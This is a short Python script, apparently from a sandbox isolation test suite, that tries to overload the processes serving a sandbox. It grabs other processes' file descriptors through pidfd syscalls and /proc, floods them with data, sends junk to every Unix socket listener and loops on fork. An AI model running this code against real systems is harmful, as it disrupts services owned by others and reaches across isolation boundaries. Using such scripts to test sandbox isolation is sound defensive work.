"""Tries to keep the processes that serve the sandbox busy, for some seconds: burn.py SECONDS."""
import os
import socket
import sys
import threading
import time

from attacker import call, foreign_pids

until = time.monotonic() + float(sys.argv[1])


def flood(descriptor):
    """Write as fast as the other end reads."""
    block = b'x' * 65536
    os.set_blocking(descriptor, True)
    while time.monotonic() < until:
        try:
            os.write(descriptor, block)
        except OSError:
            return


def stolen():
    for pid in foreign_pids():
        try:
            handle = call(434, pid, 0)
        except OSError:
            continue
        for number in range(0, 32):
            try:
                yield call(438, handle, number, 0)
            except OSError:
                continue


def named():
    for pid in foreign_pids():
        for number in range(0, 32):
            try:
                yield os.open(f'/proc/{pid}/fd/{number}', os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue


found = [*stolen(), *named()]
for descriptor in found:
    threading.Thread(target=flood, args=[descriptor], daemon=True).start()
with open('/proc/net/unix') as file:
    names = [line.split()[7] for line in file.read().splitlines()[1:] if len(line.split()) > 7]
while time.monotonic() < until:
    # Start and end processes, and connect to every listener.
    for name in names:
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.connect('\0' + name[1:] if name.startswith('@') else name)
                client.sendall(b'x' * 65536)
        except OSError:
            pass
    if os.fork() == 0:
        os._exit(0)
    os.wait()
times = os.times()
print(times.user + times.system + times.children_user + times.children_system)
print(len(found), 'descriptors')
